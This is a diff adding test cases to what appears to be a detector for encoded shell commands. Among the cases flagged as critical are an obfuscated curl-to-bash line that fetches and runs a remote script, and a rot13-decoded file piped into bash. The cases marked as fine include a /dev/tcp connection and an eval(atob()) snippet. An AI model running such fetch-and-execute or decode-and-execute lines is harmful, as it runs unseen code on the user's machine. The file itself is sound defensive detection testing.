@@ -22,6 +22,8 @@ test.each([
     "encodedScript high",
     "python",
   ],
+  ["echo 'cXuXrXlX -s https://host.dev/x' | tr -d X | bash", "decodedAndRun critical"],
+  ["cat notes.txt | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash", "decodedAndRun critical"],
 ])("%s: %s", (code, expected, language = "sh") => {
   const found = findingsOf("encoded-command", inBlock(code, language));
   expect(found.map(({ message, level }) => `${message} ${level}`)).toContain(expected);
@@ -29,6 +31,9 @@ test.each([
 
 test.each([
   ["base64 -d picture.txt > picture.png"],
+  ["PASS=$(openssl rand -base64 24 | tr -d '/+=' | head -c 32)\necho \"PASS=$PASS\" > .env\nsource .env"],
+  ["relay=$(postconf -h relayhost | tr -d '[]' | cut -d: -f1); bash -c \"echo >/dev/tcp/$relay/587\""],
+  ["<script>eval(atob('YWxlcnQoMSk='))</script>", "html"],
   ['echo "$X" | base64 -d | jq .'],
   ["import base64\nprint(base64.b64decode(blob))", "python"],
 ])("%s is fine", (code, language = "sh") => {
